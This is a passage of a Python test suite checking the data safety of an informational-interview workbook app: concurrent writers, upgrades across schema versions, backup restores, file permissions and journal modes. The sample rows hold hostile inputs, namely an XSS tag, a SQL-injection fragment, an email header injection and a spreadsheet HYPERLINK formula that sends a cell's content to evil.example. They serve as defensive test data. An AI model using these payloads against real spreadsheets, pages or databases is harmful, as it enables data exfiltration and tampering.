"""Data safety (the hardening issue): writers in parallel, kills at random points, upgrades from
every schema version, old backups, file permissions and the rollback-journal fallback.

These tests run real processes against one workspace file. The concurrency test runs for
``INFOINT_SAFETY_SECONDS`` seconds (default 60; never less than 60 when ``CI`` is set).
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import random
import signal
import sqlite3
import stat
import subprocess
import sys
import textwrap
import time
import zipfile
from collections import Counter
from pathlib import Path

import pytest

from infoint import (
    action_items,
    debrief,
    exports,
    headings,
    imports,
    organizations,
    questions,
    schema,
    stages,
    targets,
)
from infoint import workspace as wsmod
from infoint.meetings import load_meetings
from infoint.records import KINDS, Objective, Plan, Profile
from infoint.schema import (
    MIGRATIONS,
    SCHEMA_VERSION,
    WorkspaceError,
    migrate_connection,
    user_tables,
)
from infoint.workspace import Workspace


def mode(path: Path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


def safety_seconds() -> float:
    """How long the concurrency test runs: INFOINT_SAFETY_SECONDS (default 60), at least 60 in
    CI."""
    seconds = float(os.environ.get("INFOINT_SAFETY_SECONDS", "") or 60)
    if os.environ.get("CI"):
        seconds = max(seconds, 60.0)
    return max(seconds, 1.0)


def child_env(journal: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if k != wsmod.JOURNAL_ENV_VAR}
    if journal != "wal":
        env[wsmod.JOURNAL_ENV_VAR] = journal
    return env


# =============================================================================== sample data
# Every column of every table populated, with text an attacker or an odd export could produce.
HOSTILE = (
    'Zoë O\'Brien-Łukasz <img src=x onerror=alert(1)> $5M and $10M & "quotes" '
    "'); DROP TABLE contacts;-- \u202eevil\u202c 👋 日本語\r\nBcc: victim@example.org"
)
FORMULA = '=HYPERLINK("https://evil.example/?q="&A1,"click me")'
LONG = "Paragraph with accents: àéîõü. " * 2000  # ~64 KB of text
NUL = "before\x00after"  # an embedded NUL must survive too
T0 = "2024-01-02T03:04:05+00:00"
T1 = "2024-06-07T08:09:10+00:00"


def sample_rows() -> dict[str, list[dict]]:
    """One or more rows per table of the current schema, every column set (ids explicit)."""
    return {
        "profile": [
            {
                "id": 1,
                "name": HOSTILE,
                "email": "zoe@example.org",
                "timezone": "Europe/Paris",
                "pitch": FORMULA + "\n" + LONG,
                "updated_at": T1,
                "location": "Lyon, France",
            }
        ],
        "objective": [
            {
                "id": 1,
                "kinds": json.dumps(["role", "industry"]),
                "field_of_interest": HOSTILE,
                "roles": json.dumps(["UX researcher", HOSTILE], ensure_ascii=False),
                "organizations": json.dumps(["Acme Café", FORMULA], ensure_ascii=False),
                "goals": json.dumps(["Which skills matter day to day?", NUL], ensure_ascii=False),
                "plan": json.dumps(
                    {
                        "total": 8,
                        "position": 5,
                        "organization": 4,
                        "both": 3,
                        "junior": 2,
                        "senior": 4,
                    }
                ),
                "updated_at": T1,
            }
        ],
        "meta": [
            {"key": "created_at", "value": T0},
            {"key": "outreach.linkedin_plan", "value": "premium"},
            {"key": "pipeline.mode_3b7", "value": "1"},
            {"key": "note " + HOSTILE, "value": HOSTILE},
        ],
        "events": [
            {
                "id": 1,
                "at": "2024-02-01T10:00:00+00:00",
                "kind": "request_sent",
                "contact_id": 1,
                "data": json.dumps({"subject": HOSTILE, "n": 1.5}, ensure_ascii=False),
            },
            {
                "id": 2,
                "at": "2024-02-03T10:00:00+00:00",
                "kind": "reply",
                "contact_id": 1,
                "data": json.dumps({"answer": "yes", "text": FORMULA}, ensure_ascii=False),
            },
            {
                "id": 5,
                "at": "2024-02-05T10:00:00+00:00",
                "kind": "note",
                "contact_id": 2,
                "data": json.dumps({"text": LONG[:500]}, ensure_ascii=False),
            },
        ],
        "organizations": [
            {
                "id": 1,
                "name": HOSTILE,
                "name_key": "zoe-obrien-key",
                "industry": "Design",
                "size": "51-200",
                "location": "Paris",
                "website": "https://example.org/café",
                "motivation": 3,
                "postings": 2,
                "advocacy": 1,
                "notes": FORMULA,
                "archived": 0,
                "created_at": T0,
                "updated_at": T1,
            },
            {
                "id": 4,
                "name": "Acme Café",
                "name_key": "acme cafe",
                "industry": "Food",
                "size": "1-10",
                "location": "Québec",
                "website": "https://acme.example",
                "motivation": 1,
                "postings": 0,
                "advocacy": 0,
                "notes": NUL,
                "archived": 1,
                "created_at": T0,
                "updated_at": T0,
            },
        ],
        "contacts": [
            {
                "id": 1,
                "first_name": "Zoë",
                "last_name": HOSTILE,
                "email": "zoe@example.org",
                "profile_url": "https://www.linkedin.com/in/zo%C3%AB",
                "organization": HOSTILE,
                "position": FORMULA,
                "connected_on": "2021-03-12",
                "location": "Lyon",
                "phone": "+33 1 23 45 67 89",
                "connection": "first",
                "via": "Ana",
                "warm_reason": "same school",
                "seniority": "senior",
                "years_in_industry": 12.5,
                "focus": "role",
                "local": 1,
                "modes": "video,phone",
                "alt_titles": json.dumps(["Designer", HOSTILE], ensure_ascii=False),
                "notes": LONG,
                "source": "form",
                "target": 1,
                "referred_by": 2,
                "archived": 0,
                "created_at": T0,
                "updated_at": T1,
                "cadence_days": 45,
                "language": "es",
                "time_zone": "Europe/Madrid",
            },
            {
                "id": 2,
                "first_name": "李",
                "last_name": "Nakamura",
                "email": "li@example.jp",
                "profile_url": "https://www.linkedin.com/in/li-n",
                "organization": "Acme Café",
                "position": "CTO",
                "connected_on": "2019-12-31",
                "location": "Tokyo",
                "phone": "0",
                "connection": "second",
                "via": HOSTILE,
                "warm_reason": FORMULA,
                "seniority": "junior",
                "years_in_industry": 3.0,
                "focus": "organization",
                "local": 0,
                "modes": "phone",
                "alt_titles": "[]",
                "notes": NUL,
                "source": "Contacts (1).xlsx",
                "target": 0,
                "referred_by": 1,
                "archived": 1,
                "created_at": T0,
                "updated_at": T0,
                "cadence_days": 90,
                "language": "zh",
                "time_zone": HOSTILE,
            },
        ],
        "drafts": [
            {
                "id": 1,
                "contact_id": 1,
                "kind": "request",
                "subject": HOSTILE,
                "body": "Dear Zoë,\n\n" + FORMULA,
                "forwardable": "Forwardable: " + HOSTILE,
                "created_at": T0,
                "updated_at": T1,
            },
        ],
        "meetings": [
            {
                "id": 1,
                "contact_id": 1,
                "starts_at": "2024-03-01T09:30:00+01:00",
                "minutes": 25,
                "mode": "in person",
                "place": HOSTILE,
                "their_workplace": 1,
                "recognise": "red scarf",
                "checklist": json.dumps({"confirm": True, "route": False}),
                "research": json.dumps({"org": True}),
                "notes": LONG[:3000],
                "offer": FORMULA,
                "questions": json.dumps(
                    [
                        {"id": "Q1", "text": HOSTILE, "theme": "role"},
                        {"id": "own-1", "text": "Was ist wichtig?", "theme": ""},
                    ],
                    ensure_ascii=False,
                ),
                "cancelled": 0,
                "created_at": T0,
                "updated_at": T1,
            },
        ],
        "custom_questions": [
            {
                "id": 1,
                "text": HOSTILE,
                "themes": json.dumps(["role", "culture"]),
                "created_at": T0,
                "updated_at": T0,
            },
        ],
        "debriefs": [
            {
                "id": 1,
                "meeting_id": 1,
                "contact_id": 1,
                "answers": json.dumps({"0": HOSTILE, "1": FORMULA}, ensure_ascii=False),
                "insights": HOSTILE,
                "surprises": NUL,
                "reflection": json.dumps({"energy": "high", "doubt": "é"}, ensure_ascii=False),
                "role_fit": 4,
                "org_fit": 2,
                "next_changes": FORMULA,
                "created_at": T0,
                "updated_at": T1,
            },
        ],
        "action_items": [
            {
                "id": 1,
                "meeting_id": 1,
                "contact_id": 1,
                "text": HOSTILE,
                "due": "2024-03-10",
                "done_at": "2024-03-09T10:00:00+00:00",
                "created_at": T0,
                "updated_at": T1,
            },
        ],
        "goal_links": [
            {
                "id": 1,
                "meeting_id": 1,
                "goal_key": "which skills matter day to day",
                "goal": HOSTILE,
                "extent": "partly",
                "created_at": T0,
                "updated_at": T1,
            },
        ],
    }


# Columns a later migration added, and the value they get on upgrade:
# (table, column) -> (version, default).
ADDED_LATER = {
    ("profile", "location"): (3, ""),
    ("contacts", "cadence_days"): (6, None),
    ("contacts", "language"): (8, ""),
    ("contacts", "time_zone"): (8, ""),
}
KEYS = {"meta": "key"}  # every other table is keyed by id


def table_columns(conn: sqlite3.Connection, table: str) -> list[str]:
    return [r[1] for r in conn.execute(f"PRAGMA table_info({wsmod.quote_name(table)})")]


def insert_rows(conn: sqlite3.Connection, rows: dict[str, list[dict]]) -> dict[str, list[dict]]:
    """Insert the rows' columns that exist in the connection's schema; return what was inserted."""
    inserted = {}
    tables = set(user_tables(conn))
    for table, table_rows in rows.items():
        if table not in tables:
            continue
        have = set(table_columns(conn, table))
        kept = [{k: v for k, v in row.items() if k in have} for row in table_rows]
        for row in kept:
            names = ", ".join(wsmod.quote_name(c) for c in row)
            marks = ", ".join("?" for _ in row)
            conn.execute(
                f"INSERT INTO {wsmod.quote_name(table)} ({names}) VALUES ({marks})",
                list(row.values()),
            )
        inserted[table] = kept
    return inserted


def build_old_workspace(
    path: Path, version: int, rows: dict[str, list[dict]] | None = None
) -> dict[str, list[dict]]:
    """A workspace file as a release at ``version`` left it (WAL, data in every table it had)."""
    conn = sqlite3.connect(path, isolation_level=None)
    try:
        if version:
            conn.execute("PRAGMA journal_mode = WAL")
        conn.execute("BEGIN")
        migrate_connection(conn, version)
        inserted = insert_rows(conn, rows if rows is not None else sample_rows())
        conn.execute("COMMIT")
    finally:
        conn.close()
    return inserted


def assert_rows_unchanged(w: Workspace, inserted: dict[str, list[dict]], version: int) -> None:
    """Every inserted value is still there, same type and value; later columns hold their
    defaults."""
    for table, rows in inserted.items():
        key = KEYS.get(table, "id")
        stored = {r[key]: r for r in w.query(f"SELECT * FROM {wsmod.quote_name(table)}")}
        for row in rows:
            assert row[key] in stored, f"{table} row {row[key]!r} lost"
            now = stored[row[key]]
            for column, value in row.items():
                assert now[column] == value and type(now[column]) is type(value), (
                    f"{table}.{column} changed"
                )
            for (t, column), (added, default) in ADDED_LATER.items():
                if t == table and version < added:
                    assert now[column] == default
        assert len(stored) == len(rows), f"{table} gained or lost rows"


def assert_loaders_read(w: Workspace, inserted: dict[str, list[dict]]) -> None:
    """The app's own loaders read every migrated table (tables new since then read as empty)."""
    rows = {t: inserted.get(t, []) for t in sample_rows()}

    profile = Profile.from_row(w.get_row("profile"))
    objective = Objective.from_row(w.get_row("objective"))
    if rows["profile"]:
        p = rows["profile"][0]
        assert (profile.name, profile.email, profile.pitch) == (p["name"], p["email"], p["pitch"])
        o = rows["objective"][0]
        assert objective.field_of_interest == o["field_of_interest"]
        assert set(objective.kinds) == set(json.loads(o["kinds"])) and set(objective.kinds) <= set(
            KINDS
        )
        assert objective.roles == json.loads(o["roles"]) and objective.goals == json.loads(
            o["goals"]
        )
        assert objective.plan == Plan(**json.loads(o["plan"]))
    else:
        assert profile == Profile()

    events = stages.events_from_rows(w.events())
    assert sorted(e.id for e in events) == sorted(r["id"] for r in rows["events"])
    assert {e.id: e.data for e in events} == {
        r["id"]: json.loads(r["data"]) for r in rows["events"]
    }

    orgs = {o.id: o for o in organizations.load_organizations(w)}
    assert set(orgs) == {r["id"] for r in rows["organizations"]}
    for r in rows["organizations"]:
        assert (orgs[r["id"]].name, orgs[r["id"]].notes, orgs[r["id"]].archived) == (
            r["name"],
            r["notes"],
            bool(r["archived"]),
        )

    contacts = {c.id: c for c in targets.load_contacts(w)}
    assert set(contacts) == {r["id"] for r in rows["contacts"]}
    for r in rows["contacts"]:
        c = contacts[r["id"]]
        assert (c.first_name, c.last_name, c.organization, c.position, c.notes, c.via) == (
            r["first_name"],
            r["last_name"],
            r["organization"],
            r["position"],
            r["notes"],
            r["via"],
        )
        assert (
            c.alt_titles == json.loads(r["alt_titles"])
            and c.years_in_industry == r["years_in_industry"]
        )
        assert (
            c.local is bool(r["local"])
            and c.target is bool(r["target"])
            and c.referred_by == r["referred_by"]
        )
        assert c.cadence_days == r.get("cadence_days")
        assert (c.language, c.time_zone) == (r.get("language", ""), r.get("time_zone", ""))

    drafts = w.query("SELECT * FROM drafts ORDER BY id")
    assert [(d["subject"], d["body"]) for d in drafts] == [
        (r["subject"], r["body"]) for r in rows["drafts"]
    ]

    meetings = load_meetings(w)
    assert [m.id for m in meetings] == [r["id"] for r in rows["meetings"]]
    for m, r in zip(meetings, rows["meetings"], strict=True):
        assert (m.place, m.notes, m.offer, m.mode) == (
            r["place"],
            r["notes"],
            r["offer"],
            r["mode"],
        )
        assert m.questions == json.loads(r["questions"]) and m.checklist == json.loads(
            r["checklist"]
        )
    custom = questions.load_custom_questions(w)
    assert [q.text for q in custom] == [r["text"] for r in rows["custom_questions"]]

    debriefs = debrief.load_debriefs(w)
    assert [(d.id, d.insights, d.answers, d.role_fit) for d in debriefs] == [
        (r["id"], r["insights"], json.loads(r["answers"]), r["role_fit"]) for r in rows["debriefs"]
    ]
    items = action_items.load_action_items(w)
    assert [(i.id, i.text, i.due, i.done_at) for i in items] == [
        (r["id"], r["text"], r["due"], r["done_at"]) for r in rows["action_items"]
    ]


def test_sample_data_covers_every_column_of_the_current_schema(tmp_path):
    """Guard for the two tests below: a new migration must get sample data too."""
    rows = sample_rows()
    with Workspace.open(tmp_path / "ws.sqlite3") as w:
        assert set(w.tables()) == set(rows)
        for table in w.tables():
            for row in rows[table]:
                assert set(row) == set(w.columns(table)), table
                assert all(v is not None for v in row.values()), table


def test_added_later_lists_every_column_a_migration_added():
    """Guard: assert_rows_unchanged checks the default of every column added by ALTER TABLE."""
    import re

    added = {}
    for number, statements in enumerate(MIGRATIONS, start=1):
        for sql in statements:
            match = re.match(r"\s*ALTER TABLE (\w+) ADD COLUMN (\w+)", sql, re.I)
            if match:
                added[(match[1], match[2])] = number
    assert added == {k: v[0] for k, v in ADDED_LATER.items()}


# ============================================================== 3. every earlier schema version
@pytest.mark.parametrize("version", range(SCHEMA_VERSION))
def test_workspace_from_every_earlier_version_upgrades_without_loss(tmp_path, version):
    path = tmp_path / "old" / "workspace.sqlite3"
    path.parent.mkdir()
    inserted = build_old_workspace(path, version)
    assert sum(len(r) for r in inserted.values()) > 0 or version == 0
    with Workspace.open(path) as w:
        assert w.schema_version == SCHEMA_VERSION
        assert set(w.tables()) >= set(sample_rows())
        assert_rows_unchanged(w, inserted, version)
        assert_loaders_read(w, inserted)
        if "meta" not in inserted:  # a version without facts gets its creation date on upgrade
            assert w.get_meta("created_at")
        assert w.conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    with Workspace.open(path) as again:  # a second open finds nothing left to do
        assert again.schema_version == SCHEMA_VERSION
        assert_rows_unchanged(again, inserted, version)


def test_an_interrupted_upgrade_changes_nothing_and_is_retried(tmp_path, monkeypatch):
    path = tmp_path / "workspace.sqlite3"
    inserted = build_old_workspace(path, 2)
    broken = [list(m) for m in MIGRATIONS]
    broken[4] = broken[4] + ["THIS IS NOT SQL"]  # migration 5 fails after its tables were created
    monkeypatch.setattr(schema, "MIGRATIONS", broken)
    with pytest.raises((sqlite3.Error, WorkspaceError)):
        Workspace.open(path)
    conn = sqlite3.connect(path)
    assert conn.execute("PRAGMA user_version").fetchone()[0] == 2
    assert "organizations" not in user_tables(conn)  # migration 3 and 4 rolled back with it
    conn.close()
    monkeypatch.setattr(schema, "MIGRATIONS", MIGRATIONS)
    with Workspace.open(path) as w:
        assert w.schema_version == SCHEMA_VERSION
        assert_rows_unchanged(w, inserted, 2)


# ============================================================ 4. a backup from an older version
def old_backup(tmp_path: Path, version: int) -> tuple[bytes, dict[str, list[dict]]]:
    """The backup a release at ``version`` made: its Workspace.dump() in the backup ZIP."""
    path = tmp_path / f"v{version}" / "workspace.sqlite3"
    path.parent.mkdir()
    inserted = build_old_workspace(path, version)
    conn = sqlite3.connect(path, isolation_level=None)
    conn.row_factory = sqlite3.Row
    try:
        dump = Workspace(
            path=path, _conn=conn
        ).dump()  # the dump code, on a connection at that version
    finally:
        conn.close()
    assert dump["schema_version"] == version
    content = {"format": exports.BACKUP_FORMAT, "exported_at": "2024-06-07T08:09:10+00:00", **dump}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(exports.BACKUP_MEMBER, json.dumps(content, ensure_ascii=False, indent=1))
        zf.writestr(
            "README.txt", "This file is a backup of your informational interview workbook.\n"
        )
    return buffer.getvalue(), inserted


@pytest.mark.parametrize("version", range(1, SCHEMA_VERSION))  # no release wrote a version-0 backup
def test_backup_from_an_older_version_restores(tmp_path, version):
    data, inserted = old_backup(tmp_path, version)
    with Workspace.open(tmp_path / "current" / "workspace.sqlite3") as w:
        w.put_row("profile", {"name": "Before the restore"})
        w.write(inserts={"contacts": [{"first_name": "Kept in the safety copy"}]})
        report = exports.restore_backup(w, data, "infoint-backup-old.zip")
        assert w.schema_version == SCHEMA_VERSION
        assert_rows_unchanged(w, inserted, version)
        assert_loaders_read(w, inserted)
        for table in w.tables():  # the backup replaced everything, tables it didn't have included
            assert report.rows[table] == len(inserted.get(table, []))
        assert report.exported_at == "2024-06-07T08:09:10+00:00"
        # the safety copy holds what was there before, privately
        assert report.safety_copy is not None and report.safety_copy.exists()
        assert mode(report.safety_copy) == 0o600 and mode(report.safety_copy.parent) == 0o700
        before = exports.read_backup(report.safety_copy.read_bytes())
        assert before["schema_version"] == SCHEMA_VERSION
        assert before["tables"]["profile"]["rows"][0][1] == "Before the restore"
        assert before["tables"]["contacts"]["rows"][0][1] == "Kept in the safety copy"
        # and the restored workbook backs up and restores again losslessly
        again = exports.backup_bytes(w)
    with Workspace.open(tmp_path / "third" / "workspace.sqlite3") as third:
        exports.restore_backup(third, again)
        assert_rows_unchanged(third, inserted, version)


# ======================================================================== 5. permissions
@pytest.fixture
def umask():
    """Set the process umask for one test (``umask(0o022)``); restored afterwards."""
    previous = os.umask(0o022)
    os.umask(previous)
    yield os.umask
    os.umask(previous)


@pytest.mark.parametrize("mask", [0o022, 0o002, 0o000], ids=lambda m: f"umask-{m:03o}")
@pytest.mark.parametrize("journal", ["wal", "delete"])
def test_new_workspace_file_is_0600_in_a_0700_folder_and_siblings_are_private(
    tmp_path, umask, mask, journal
):
    umask(mask)
    path = tmp_path / "fresh" / "workspace.sqlite3"
    with Workspace.open(path, journal=journal) as w:
        assert mode(path) == 0o600 and mode(path.parent) == 0o700
        with w.transaction() as tx:  # while a write is under way, the journal or WAL exists
            tx.execute("INSERT INTO meta (key, value) VALUES ('k', ?)", ("x" * 100_000,))
            siblings = [Path(str(path) + s) for s in ("-wal", "-shm", "-journal")]
            present = [s for s in siblings if s.exists()]
            assert present, "a write in progress has a journal or WAL file"
            for side in present:
                assert mode(side) & 0o077 == 0, f"{side.name} is {oct(mode(side))}"
        for side in siblings:
            if side.exists():
                assert mode(side) & 0o077 == 0, f"{side.name} is {oct(mode(side))}"


@pytest.mark.parametrize("mask", [0o022, 0o000], ids=lambda m: f"umask-{m:03o}")
def test_backups_folder_is_0700_and_safety_copies_are_0600_and_restores_write_no_scratch(
    tmp_path, umask, monkeypatch, mask
):
    umask(mask)
    seen = {}
    real_replace = Workspace._replace_from

    def spy(self, source):
        seen["files"] = sorted(
            p.name for p in self.path.parent.iterdir()
        )  # while the restore is under way
        return real_replace(self, source)

    monkeypatch.setattr(Workspace, "_replace_from", spy)
    with Workspace.open(tmp_path / "ws" / "workspace.sqlite3") as w:
        w.put_row("profile", {"name": "Ada"})
        data = exports.backup_bytes(w)
        copy = exports.save_safety_copy(w, "before-demo")
        report = exports.restore_backup(w, data)
    for safety in (copy, report.safety_copy):
        assert mode(safety) == 0o600
    assert mode(copy.parent) == 0o700
    # the scratch copy of the backup lives in memory: nothing but the workspace and backups on disk
    assert set(seen["files"]) <= {
        "workspace.sqlite3",
        "workspace.sqlite3-wal",
        "workspace.sqlite3-shm",
        "workspace.sqlite3-journal",
        "backups",
    }


def test_loose_workspace_file_is_tightened_back_to_0600_on_open(tmp_path):
    path = tmp_path / "ws" / "workspace.sqlite3"
    with Workspace.open(path) as w:
        w.put_row("profile", {"name": "Ada"})
    os.chmod(path, 0o644)
    with Workspace.open(path) as w:
        assert mode(path) == 0o600
        assert w.get_row("profile")["name"] == "Ada"


def test_existing_user_folder_we_did_not_create_keeps_its_mode(tmp_path, monkeypatch, umask):
    """A custom folder (INFOINT_WORKSPACE) that already exists is the user's: we don't chmod it.
    The file we create in it is still 0600, and the backups folder we create is 0700."""
    umask(0o022)
    folder = tmp_path / "Documents"
    folder.mkdir()
    os.chmod(folder, 0o755)
    monkeypatch.setenv(wsmod.ENV_VAR, str(folder / "my-workbook.sqlite3"))
    with Workspace.open() as w:
        assert w.path == folder / "my-workbook.sqlite3"
        w.put_row("profile", {"name": "Ada"})
        copy = exports.save_safety_copy(w, "before-restore")
    assert mode(folder) == 0o755
    assert mode(folder / "my-workbook.sqlite3") == 0o600
    assert mode(copy) == 0o600 and mode(copy.parent) == 0o700


# ===================================================================== 6. rollback journal
def on_disk_journal_mode(path: Path) -> str:
    conn = sqlite3.connect(path)
    try:
        return conn.execute("PRAGMA journal_mode").fetchone()[0].lower()
    finally:
        conn.close()


@pytest.mark.parametrize(
    "how, value",
    [
        ("argument", "delete"),
        ("argument", "rollback"),
        ("environment", "delete"),
        ("environment", "Rollback"),
    ],
)
def test_rollback_journal_on_request_by_argument_or_environment(tmp_path, monkeypatch, how, value):
    path = tmp_path / "ws" / "workspace.sqlite3"
    Workspace.open(path).close()  # was WAL: switching back must work too
    assert on_disk_journal_mode(path) == "wal"
    if how == "environment":
        monkeypatch.setenv(wsmod.JOURNAL_ENV_VAR, value)
        w = Workspace.open(path)
    else:
        monkeypatch.delenv(wsmod.JOURNAL_ENV_VAR, raising=False)
        w = Workspace.open(path, journal=value)
    with w:
        assert w.journal_mode == "delete"
        assert "rollback journal" in w.notice and "was requested" in w.notice
        w.put_row("profile", {"name": "Ada"})
        assert not Path(str(path) + "-wal").exists()
        assert w.conn.execute("PRAGMA journal_mode").fetchone()[0] == "delete"
    assert on_disk_journal_mode(path) == "delete"


@pytest.mark.parametrize("fs", ["nfs", "nfs4", "cifs", "fuse.sshfs"])
def test_rollback_journal_on_a_network_file_system(tmp_path, monkeypatch, fs):
    monkeypatch.delenv(wsmod.JOURNAL_ENV_VAR, raising=False)
    monkeypatch.setattr(wsmod, "filesystem_type", lambda path, mounts_text=None: fs)
    path = tmp_path / "home" / "workspace.sqlite3"
    with Workspace.open(path) as w:
        assert w.journal_mode == "delete"
        assert f"network file system ({fs})" in w.notice
        w.append_event("tick")
        assert not Path(str(path) + "-wal").exists()
    assert on_disk_journal_mode(path) == "delete"


def test_rollback_request_while_another_notebook_has_it_open_in_wal(tmp_path):
    """A second kernel asking for the rollback journal (INFOINT_JOURNAL=delete set later, say)
    while a first kernel holds the workspace open in WAL must not crash with a raw SQLite error:
    it either opens and reports the journal actually in use, or says so in plain words."""
    path = tmp_path / "ws" / "workspace.sqlite3"
    with Workspace.open(path) as first:
        first.put_row("profile", {"name": "Ada"})
        try:
            second = Workspace.open(path, journal="delete")
        except WorkspaceError:
            pass
        else:
            with second:
                actual = second.conn.execute("PRAGMA journal_mode").fetchone()[0].lower()
                assert second.journal_mode == actual
                if actual == "wal":
                    assert not second.notice.startswith("Using SQLite's rollback journal")
                assert second.get_row("profile")["name"] == "Ada"
        assert first.get_row("profile")["name"] == "Ada"


# ============================================== 1. four processes writing at once for a minute
WORKER = textwrap.dedent(
    """
    import json, random, sys, time
    from infoint.workspace import Workspace
    path, name, start, seconds, seed = (
        sys.argv[1], sys.argv[2], float(sys.argv[3]), float(sys.argv[4]), int(sys.argv[5])
    )
    ws = Workspace.open(path)
    rng = random.Random(seed)
    done = {"increments": 0, "events": 0, "saves": 0, "contacts": 0, "contact_writes": 0,
            "reads": 0, "bad_ids": 0, "journal": ws.journal_mode}
    while time.time() < start:
        time.sleep(0.002)
    i = 0
    while time.time() < start + seconds:
        i += 1
        op = rng.random()
        if op < 0.30:  # read-modify-write of a shared counter
            with ws.transaction() as tx:
                row = tx.execute("SELECT value FROM meta WHERE key = 'counter'").fetchone()
                value = int(row[0]) if row else 0
                tx.execute("INSERT INTO meta (key, value) VALUES ('counter', ?) "
                           "ON CONFLICT(key) DO UPDATE SET value = excluded.value",
                           (str(value + 1),))
            done["increments"] += 1
        elif op < 0.55:
            ws.append_event("tick", data={"writer": name, "i": i, "text": "Zoë <b>$5M</b>"})
            done["events"] += 1
        elif op < 0.75:  # step 1's save: profile and objective together
            token = f"{name}-{i}"
            ws.put_rows({"profile": {"name": token, "pitch": "Pitch " + token},
                         "objective": {"field_of_interest": token, "goals": json.dumps([token])}})
            done["saves"] += 1
        elif op < 0.95:
            k = rng.randint(1, 5)
            rows = [{"first_name": name, "last_name": f"{i}-{j}", "source": name,
                     "profile_url": f"https://www.linkedin.com/in/{name}-{i}-{j}"}
                    for j in range(k)]
            ids = ws.write(inserts={"contacts": rows})["contacts"]
            got = ws.query("SELECT id, last_name FROM contacts "
                           f"WHERE id IN ({','.join('?' * len(ids))}) AND source = ?",
                           (*ids, name))
            if len(ids) != k or sorted(
                (r["id"], r["last_name"]) for r in got
            ) != [(x, f"{i}-{j}") for j, x in enumerate(ids)]:
                done["bad_ids"] += 1
            done["contacts"] += k
            done["contact_writes"] += 1
        else:
            ws.query("SELECT count(*) AS n FROM contacts")
            done["reads"] += 1
    ws.close()
    print(json.dumps(done))
    """
)


def run_writers(path: Path, journal: str, seconds: float, count: int = 4) -> list[dict]:
    Workspace.open(path, journal=None if journal == "wal" else journal).close()
    start = time.time() + 3.0  # every worker has opened the workspace by then
    procs = [
        subprocess.Popen(
            [
                sys.executable,
                "-c",
                WORKER,
                str(path),
                f"w{n}",
                str(start),
                str(seconds),
                str(1000 + n),
            ],
            env=child_env(journal),
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        for n in range(count)
    ]
    results = []
    for proc in procs:
        out, err = proc.communicate(timeout=seconds + 120)
        assert proc.returncode == 0, err[-3000:]
        results.append(json.loads(out.strip().splitlines()[-1]))
    return results


@pytest.mark.slow  # a minute (INFOINT_SAFETY_SECONDS) of four writers, then ten more seconds
@pytest.mark.parametrize(
    "journal", ["wal", "delete"], ids=["wal-for-INFOINT_SAFETY_SECONDS", "rollback-journal-10s"]
)
def test_four_processes_writing_at_once_lose_no_update(tmp_path, journal):
    seconds = safety_seconds() if journal == "wal" else min(10.0, safety_seconds())
    path = tmp_path / "shared" / "workspace.sqlite3"
    results = run_writers(path, journal, seconds)
    assert {r["journal"] for r in results} == {journal}
    total = lambda key: sum(r[key] for r in results)  # noqa: E731
    if journal == "wal":  # WAL: every writer gets through every kind of write
        assert all(
            r["increments"] and r["events"] and r["saves"] and r["contact_writes"] for r in results
        ), results
    else:
        # the rollback journal's locks are not fair: slower for some writers, but nobody is shut out
        assert all(
            r["increments"] + r["events"] + r["saves"] + r["contact_writes"] for r in results
        ), results
    assert total("bad_ids") == 0, "Workspace.write returned ids of rows it did not insert"
    with Workspace.open(path, journal=None if journal == "wal" else journal) as w:
        assert w.conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        assert int(w.get_meta("counter")) == total("increments")
        ticks = Counter(e["data"]["writer"] for e in w.events() if e["kind"] == "tick")
        assert ticks == Counter({f"w{n}": r["events"] for n, r in enumerate(results)})
        by_source = Counter(r["source"] for r in w.query("SELECT source FROM contacts"))
        assert by_source == Counter({f"w{n}": r["contacts"] for n, r in enumerate(results)})
        profile, objective = w.get_row("profile"), w.get_row("objective")
        assert (
            profile["name"] == objective["field_of_interest"] == json.loads(objective["goals"])[0]
        )
        assert profile["pitch"] == "Pitch " + profile["name"]
    print(
        f"\n{journal}, {seconds:.0f} s: "
        + ", ".join(f"{k}={total(k)}" for k in ("increments", "events", "saves", "contacts"))
    )


# ============================================= 2. killed at random points, imports and saves
IMPORT_SIZE = 2000

CRASHER = textwrap.dedent(
    """
    import json, sys, uuid
    from pathlib import Path
    from infoint import exports, headings, imports, targets
    from infoint.objectives import Objective, Profile
    from infoint.workspace import Workspace, now_iso

    path, backup_path, first, n = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])

    def say(text):
        print(text, flush=True)

    # Markers for the parent: which step a kill interrupted.
    real_restore, real_replace = Workspace.restore, Workspace._replace_from
    def restore(self, content):
        say("phase restore:scratch")
        return real_restore(self, content)
    def replace_from(self, source):
        say("phase restore:replace")
        return real_replace(self, source)
    Workspace.restore, Workspace._replace_from = restore, replace_from

    say("loaded")
    sys.stdin.readline()  # the parent says go once it has checked the previous kill
    ws = Workspace.open(path)
    backup = Path(backup_path).read_bytes()
    header = ",".join(headings.LINKEDIN_HEADER)

    def linkedin_export(tag):
        lines = ["Notes:",
                 '"When exporting your connection data, you may notice that some of the email '
                 'addresses are missing."',
                 "", header]
        for i in range(n):
            lines.append(f'Zoë{i},"Łukasz-{tag}",https://www.linkedin.com/in/{tag}-{i},,'
                         f'"Acme {i % 40}, Inc.",'
                         f'"=HYPERLINK(""x"") <b>{i}</b>",12 Mar 2021')
        return ("\\n".join(lines) + "\\n").encode("utf-8")

    def do_import():
        tag = "t" + uuid.uuid4().hex[:12]
        plan = imports.read_contacts(linkedin_export(tag), "Connections.csv")
        existing = targets.load_contacts(ws)
        merge = imports.plan_merge(existing, plan)
        assert len(merge.add) == n and not merge.update, (len(merge.add), len(merge.update))
        say("phase import:write")
        targets.apply_merge(ws, merge, existing)

    def do_save():  # what ObjectivesPage.save writes
        token = uuid.uuid4().hex
        profile = Profile(name="Tester " + token, email="t@example.org", timezone="UTC",
                          pitch="Pitch <b>" + token)
        objective = Objective(kinds=["role"], field_of_interest="Field " + token,
                              goals=["goal " + token])
        ws.put_rows({"profile": profile.to_row(), "objective": objective.to_row()})
        ws.append_event("note", data={"saved": token})

    def do_event():  # an event and the counter that must match it, in one transaction
        with ws.transaction() as tx:
            row = tx.execute("SELECT value FROM meta WHERE key = 'counter'").fetchone()
